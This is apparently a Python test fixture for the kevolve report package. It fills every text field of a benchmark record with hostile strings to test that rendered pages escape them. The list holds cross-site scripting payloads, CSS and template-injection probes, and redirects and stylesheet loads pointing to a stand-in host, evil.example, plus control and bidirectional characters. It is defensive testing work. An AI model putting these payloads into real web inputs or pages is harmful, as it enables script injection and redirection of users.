"""A record whose every text attacks the page that shows it."""

from kevolve.report.record import (
    Environment,
    Figure,
    Kernel,
    NodeRow,
    Properties,
    Record,
    Result,
    SearchRow,
    Side,
    Speedup,
    Times,
    Usage,
    Verdict,
)

MARK = "document.title='taken'"
ATTACKS = (
    f"<script>{MARK}</script>",
    f"</script><script>{MARK}</script>",
    f"</style><script>{MARK}</script>",
    f"</title></textarea></pre></code></table></details><img src=x onerror={MARK}>",
    f'" onmouseover="{MARK}" autofocus onfocus="{MARK}" x="',
    f"' onload='{MARK}' x='",
    f"`><svg onload={MARK}><animate onbegin={MARK} attributeName=x dur=1s></svg>",
    f"]]></svg><svg><script>{MARK}</script></svg>",
    f"<svg><foreignObject><iframe srcdoc='<script>parent.{MARK}</script>'></iframe></foreignObject></svg>",
    f"javascript:{MARK}",
    f"<a href=javascript:{MARK}>x</a>",
    "<style>*{display:none}</style><link rel=stylesheet href=//evil.example/x.css>",
    "red;background:url(//evil.example/x.png)} body{display:none",
    "{{ 7 * 7 }}{% for x in ().__class__.__mro__ %}{{ x }}{% endfor %}{# gone #}",
    "<!--sections--> <!-- --><base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    f"<form action=//evil.example><input name=shown><button formaction='javascript:{MARK}'>",
    "&lt;script&gt;&#60;script&#62;",
    "\x1b[31mred\x1b[0m \x00nul \x07bell \x9b1mC1",
    "safe\u202etxt.exe\u2066\u200b\u2028\ufeff\U000e0041",
    "half a pair \ud800 and \udfff",
    "n" * 3_000,
    "__proto__",
)


def record(attack: str) -> Record:
    """A record in which ``attack`` stands wherever text may stand."""
    where, names = dict(spec=attack, target=attack, language=attack), {attack: attack}
    kernel = Kernel(path=attack, hash=attack)
    free = {
        "values": names | {"dtype": "float32"},
        "resources": {attack: attack},
        "ahead": attack,
        "test": attack,
        "unavailable": {"compile": attack},
        "work": {"bytes": 1e6, "flops": 1e9},
        "min_speedup": 1.2,
    }
    timed = dict(
        time_us=Times(launched=40.0, replayed=39.0),
        baseline_us={attack: Times(launched=80.0)},
        speedup={attack: Speedup(estimate=2.0, low=1.9, high=2.1)},
        floor_us=30.0,
        speed_of_light=0.75,
        pairs=7,
        method=attack,
        kernel=kernel,
        extra=free,
    )
    results = (
        Result(case=attack, status="PASSED", **where, **timed),
        Result(case=f"{attack} again", status="TOO_SLOW", message=attack, **where, **timed),
        Result(case=f"{attack} wrong", status="INCORRECT_NUMERICAL", message=f"{attack}\nreplay: {attack}", **where, kernel=kernel),
    )
    old, new = (Side(path=attack, hash=attack, revision=attack, time_us=us) for us in (40.0, 44.0))
    figure = Figure(name=attack, where=attack, old=32, new=255, allowed=40)
    verdict = Verdict(case=attack, verdict="slower", message=attack, old=old, new=new, figures=(figure,), **where)
    nodes = (
        NodeRow(id=1, step=1, operator=attack, model=attack, idea=attack, hypothesis=attack, fitness=1.5, seconds=1.0, source="a"),
        NodeRow(
            id=2,
            step=2,
            parents=(1,),
            operator=attack,
            model=attack,
            idea=attack,
            status="PASSED",
            fitness=2.0,
            seconds=1.0,
            source="b",
            prompt="p",
            usage=Usage(input=1, output=2, usd=0.1),
        ),
        NodeRow(id=3, step=3, parents=(2,), operator=attack, status="TIMEOUT", message=attack),
    )
    environment = Environment(
        device=attack,
        arch=attack,
        date="2026-01-02T03:04:05Z",
        versions=names,
        toolchain={attack: names},
        isolation=names,
        commit=attack,
        extra={"peaks": {"bandwidth": [[1e9, 4e12]], "operations": {attack: 6e13}}},
    )
    return Record(
        environment=environment,
        results=results,
        properties=(Properties(status="INCORRECT_NUMERICAL", message=attack, draws=5, kernel=kernel, **where),),
        gate=(verdict, Verdict(case="", verdict="new", message=attack, **where)),
        searches=(SearchRow(spec=attack, target=attack, best=2, nodes=nodes),),
        sources={attack: attack, "a": f"int one;\n{attack}\n", "b": f"int two;\n{attack}\n"},
        prompts={"p": attack},
    )
